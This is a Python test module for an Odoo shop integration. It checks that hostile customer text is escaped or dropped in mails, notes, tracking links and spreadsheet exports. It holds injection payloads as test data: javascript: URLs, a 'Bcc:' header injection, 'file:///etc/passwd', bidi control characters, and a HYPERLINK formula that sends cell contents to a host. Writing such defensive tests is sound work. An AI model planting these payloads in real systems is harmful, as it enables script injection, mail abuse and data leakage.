"""What a stranger types into the shop stays what it is: a text. In mails, notes, links, files."""

import io
import json
from unittest.mock import patch

from openpyxl import load_workbook

from odoo import http
from odoo.tests import HttpCase, tagged

from .hostile import HOSTILE, hostile_order
from .outbox_common import OutboxCase, ReportCase

FORMULA = '=HYPERLINK("http://127.0.0.1/?"&A1,"Total")'


class HostileCase(ReportCase):

    def import_hostile(self, **names):
        """The inbox row of an order with hostile texts in every field.

        :param names: what the customer is called instead, or where they live
        """
        payload = hostile_order(self.shop.place())
        for part in ('customer_information', 'shipping_address'):
            payload[part].update(names)
        self.sandbox.control._state.stores[self.store.store_name].orders[payload['id']] = payload
        self.sync_store()
        row = self.row(payload['id'])
        self.assertImported(row)
        return row

    def assertPlain(self, html):
        """The text is there, as text."""
        self.assertNotIn('<img data-hostile', html)
        self.assertNotIn('1337', html)
        self.assertIn('&lt;img data-hostile', html)


@tagged('post_install', '-at_install')
class TestHostileTexts(HostileCase):

    def test_names_of_the_shop_are_escaped_in_the_story_and_the_comparison(self):
        row = self.import_hostile()
        number = row.remote_id
        order = self.sandbox.control._state.stores[self.store.store_name].orders[number]
        order['shipping_address']['city'] = f'{HOSTILE} 2'
        self.shop.advance(60)
        self.shop.touch(number)
        with patch.object(type(row), '_follow_due', lambda *args: True):
            self.sync_store()
        row._note_not_applied("Compare")
        self.assertPlain(row.change_summary)
        self.assertPlain(row.sale_order_id.activity_ids.note)
        self.sandbox.violations.clear()

    def test_mail_to_the_customer_shows_the_name_and_runs_nothing_in_it(self):
        self.store.mails_by = 'odoo'
        row = self.import_hostile(email='aino@example.com')
        self.sync_merchant()
        sent = row.ogoship_order_ids
        self.warehouse.ship(sent.reference, tracking='JJ1<b data-hostile>')
        self.sync_merchant()
        mail = self.env['mail.mail'].search([('model', '=', 'ogoship.order')])
        self.assertEqual(len(mail), 1)
        self.assertPlain(mail.body_html)
        self.assertNotIn('<b data-hostile', mail.body_html)
        for text in (mail.subject, mail.email_from, mail.email_to or ''):
            self.assertNotIn('1337', text)
            self.assertNotIn('\n', text)
        self.sandbox.violations.clear()

    def test_line_break_in_a_name_adds_no_header_to_a_mail(self):
        self.store.mails_by = 'odoo'
        row = self.import_hostile(
            company='', first_name="Aino\r\nBcc: spy@example.com", last_name="Korhonen\n")
        partner = row.sale_order_id.partner_id
        self.assertEqual(partner.name, "Aino Bcc: spy@example.com Korhonen")
        self.sync_merchant()
        self.assertEqual(
            self.sent_orders()[-1]['customer']['name'], "Aino Bcc: spy@example.com Korhonen")

    def test_marks_that_turn_a_text_around_are_left_out(self):
        row = self.import_hostile(
            company='', first_name="Ai\u202eno\u2066", last_name="Korhonen",
            street_address="Kotikatu\x07 1\u2028A")
        self.assertEqual(row.sale_order_id.partner_shipping_id.street, "Kotikatu 1 A")
        self.assertEqual(row.sale_order_id.partner_id.name, "Aino Korhonen")

    def test_notes_about_what_was_typed_are_escaped(self):
        row = self.import_hostile()
        notes = row.sale_order_id.partner_id.message_ids.filtered(
            lambda message: "VAT number" in message.body or "phone number" in message.body)
        self.assertTrue(notes)
        for note in notes:
            self.assertNotIn('<img', note.body)
        self.assertEqual(row.sale_order_id.mycashflow_note, f'{HOSTILE}\n{HOSTILE}')

    def test_only_web_addresses_become_links(self):
        row = self.sent()
        for url in ('javascript:alert(1)', 'JaVaScRiPt://x/%0aalert(1)', 'data:text/html,x',
                    'file:///etc/passwd', '//evil.example.com', 'http:', 'https://a b'):
            with self.subTest(url):
                self.warehouse.fault(
                    remote='warehouse', method='GET', path='/Orders', kind='status', status=200,
                    body=[{**self.at_warehouse(row)[0], 'trackingUrl': url}])
                self.sync_merchant()
                self.assertFalse(row.tracking_url)
        row.tracking_url = 'javascript:alert(1)'
        self.assertNotIn('javascript', row.ogoship_story)

    def test_refusal_of_a_remote_is_shown_as_text(self):
        row = self.outbox()
        self.warehouse.fault(
            remote='warehouse', method='POST', path='/Orders', kind='status', status=400,
            body={'Message': f'Not like this: {HOSTILE}'})
        self.sync_merchant()
        self.assertWaits(row, 'error', 'refused')
        self.assertNotIn('<', row.message)


@tagged('post_install', '-at_install')
class TestExports(HttpCase, OutboxCase):
    """Files that a person opens in a spreadsheet."""

    def setUp(self):
        super().setUp()
        self.authenticate('admin', 'admin')
        self.inbox = self.bring_in()
        self.inbox.write({'customer_name': FORMULA, 'pickup_point': '@SUM(1+1)'})

    def export(self, kind, **values):
        data = {
            'model': 'mycashflow.order', 'ids': self.inbox.ids, 'import_compat': False,
            'domain': [], 'context': {}, 'fields': [
                {'name': name, 'label': name, 'type': kind} for name, kind in (
                    ('customer_name', 'char'), ('pickup_point', 'char'),
                    ('amount_total', 'float'))], **values}
        answer = self.url_open(f'/web/export/{kind}', data={
            'data': json.dumps(data), 'csrf_token': http.Request.csrf_token(self)})
        self.assertEqual(answer.status_code, 200)
        return answer

    def cells(self, answer):
        sheet = load_workbook(io.BytesIO(answer.content)).active
        return [cell for row in sheet.iter_rows(min_row=2) for cell in row]

    def test_formula_in_a_name_is_a_text_in_csv(self):
        text = self.export('csv').text
        self.assertIn('"\'=HYPERLINK', text)
        self.assertIn('"\'@SUM', text)

    def test_formula_in_a_name_is_a_text_in_xlsx(self):
        name, point, total = self.cells(self.export('xlsx'))
        self.assertEqual((name.data_type, name.value), ('s', f"'{FORMULA}"))
        self.assertEqual((point.data_type, point.value), ('s', '@SUM(1+1)'))
        self.assertEqual((total.data_type, total.value), ('n', self.inbox.amount_total))

    def test_formula_in_the_title_of_a_group_is_a_text(self):
        answer = self.export('xlsx', groupby=['customer_name'])
        cells = self.cells(answer)
        self.assertFalse([cell for cell in cells if cell.data_type == 'f'])
        self.assertEqual(cells[0].value, f"'{FORMULA} (1)")
        self.assertIn(self.inbox.amount_total, [cell.value for cell in cells])

    def test_a_name_that_looks_like_a_link_into_another_file_is_a_text(self):
        self.inbox.customer_name = 'external:\\\\127.0.0.1\\share\\x.xlsx'
        name = self.cells(self.export('xlsx'))[0]
        self.assertFalse(name.hyperlink)
